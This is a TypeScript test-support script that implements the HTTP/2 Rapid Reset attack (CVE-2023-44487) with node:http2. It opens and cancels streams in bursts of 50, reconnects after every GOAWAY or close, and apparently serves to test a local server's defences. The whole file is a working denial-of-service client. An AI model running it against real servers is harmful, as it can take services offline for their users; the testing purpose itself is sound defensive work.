// A Rapid Reset client (CVE-2023-44487) on node:http2, for tests: opens and resets streams in bursts of 50,
// on a new connection after every GOAWAY or close, for a bounded time. Prints {"opened","connections"}.
//   node test/support/h2-rapid-reset-client.ts PORT MILLISECONDS
import http2 from 'node:http2';

const [port, ms] = process.argv.slice(2).map(Number);
const until = Date.now() + ms;
const ignore = () => undefined;

/**
 * Opens and resets streams in bursts of 50 until `until`, on a new connection after every GOAWAY or close.
 * A PING every 100 ms (unanswered for 400 ms: gone) tells whether the connection is still there: node's
 * client stops reading while it has writes queued, and then does not notice a server that closed the
 * connection under it.
 */
async function rapidReset(until: number): Promise<{ opened: number; connections: number }> {
  let opened = 0;
  let connections = 0;
  while (Date.now() < until) {
    connections++;
    await new Promise<void>((resolve) => {
      const s = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
      let done = false;
      let pingSentAt = 0;
      const finish = () => {
        if (done) return;
        done = true;
        clearInterval(liveness);
        s.destroy();
        resolve();
      };
      const liveness = setInterval(() => {
        if (Date.now() >= until || (pingSentAt > 0 && Date.now() - pingSentAt > 400)) return finish();
        if (pingSentAt > 0 || s.connecting) return;
        pingSentAt = Date.now();
        try {
          s.ping((err) => (err ? finish() : (pingSentAt = 0)));
        } catch {
          finish();
        }
      }, 100);
      s.on('error', ignore);
      s.once('goaway', finish);
      s.once('close', finish);
      s.once('connect', function burst() {
        if (done || s.closed || s.destroyed) return finish();
        try {
          for (let i = 0; i < 50; i++) {
            const r = s.request({ ':path': `/rr${opened}` });
            r.on('error', ignore);
            r.close(http2.constants.NGHTTP2_CANCEL);
            opened++;
          }
        } catch {
          return finish();
        }
        setImmediate(burst);
      });
    });
  }
  return { opened, connections };
}

process.stdout.write(JSON.stringify(await rapidReset(until)));
